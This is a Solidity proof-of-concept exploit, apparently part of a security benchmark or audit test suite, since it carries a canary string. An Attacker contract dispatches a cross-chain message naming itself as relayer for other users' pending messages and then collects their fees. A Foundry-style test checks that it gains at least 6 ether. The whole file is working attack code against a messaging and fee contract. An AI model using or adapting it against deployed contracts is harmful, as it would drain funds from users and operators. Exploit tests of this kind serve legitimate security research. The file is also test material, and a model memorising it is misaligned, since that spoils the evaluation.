// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-9c41e7d3-2b6f-4a58-8e10-d37f5a0c64b9
import "../Base.sol";

contract Attacker is Agent {
    constructor(Deployment.Station memory home_, Deployment.Station memory away_, address[] memory a, address[] memory b)
        payable
        Agent(home_, away_, a, b)
    {}

    function claim(bytes32[] calldata identifiers) external returns (Messages.Message memory message) {
        address[] memory relayers = new address[](identifiers.length);
        for (uint256 i = 0; i < relayers.length; i++) {
            relayers[i] = address(this);
        }
        Messages.Draft memory draft =
            Messages.Draft(11, address(home.fees), 400_000, 2 hours, abi.encode(identifiers, relayers));
        uint64 deadline = uint64(block.timestamp) + 2 hours;
        message = Messages.Message(
            22, 11, away.outbox.messageCount(), address(this), address(home.fees), deadline, 400_000, draft.body
        );
        away.outbox.dispatch{value: away.outbox.feeFor(draft)}(draft);
        _carry(true);
    }

    function take(Messages.Message calldata message) external {
        _hand(true, message);
        try home.fees.collect(payable(address(this))) {} catch {}
    }

    receive() external payable {}
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker{value: 1 ether}(home, away, watchers, returning);
    }

    function exploit() public {
        bytes32[] memory list = new bytes32[](3);
        for (uint256 i = 0; i < 3; i++) {
            list[i] = Messages.identifierOf(pending[i]);
        }
        Messages.Message memory message = other.claim(list);
        vm.warp(block.timestamp + 31 minutes);
        other.take(message);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 6 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(home.fees);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
